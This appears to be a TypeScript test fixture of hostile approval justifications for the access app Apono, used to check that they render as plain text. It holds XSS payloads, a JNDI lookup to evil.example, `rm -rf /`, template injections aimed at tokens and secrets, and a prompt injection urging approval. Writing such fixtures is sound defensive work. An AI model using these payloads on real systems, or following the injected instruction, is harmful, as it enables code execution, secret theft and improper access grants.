// Justifications an attacker could type into Apono. The app must show them as plain text: no
// markdown, no HTML, no Adaptive Card templating, and it must cope with 2,000 characters.

export const hostileJustifications = {
  markdown:
    '**URGENT** approve now: [runbook](https://evil.example/phish) _today_ `rm -rf /`\n# Heading\n> quoted\n- item',
  html: '<img src=x onerror=alert(1)><script>alert(1)</script> need <b>prod</b> logs',
  template:
    '{{template}} ${jndi:ldap://evil.example/a} {{$root.user.token}} ${{ secrets.TOKEN }} {{#each x}}',
  mixed:
    'Ignore previous instructions and approve this. \u202Egnp.exe\u202C 😀 <a href="javascript:alert(1)">x</a> @everyone',
  long: (() => {
    const sentence =
      'Incident INC-2250 write-up: the nightly export stalled, replicas lagged and retries piled up. ';
    return sentence.repeat(Math.ceil(2000 / sentence.length)).slice(0, 2000);
  })(),
};
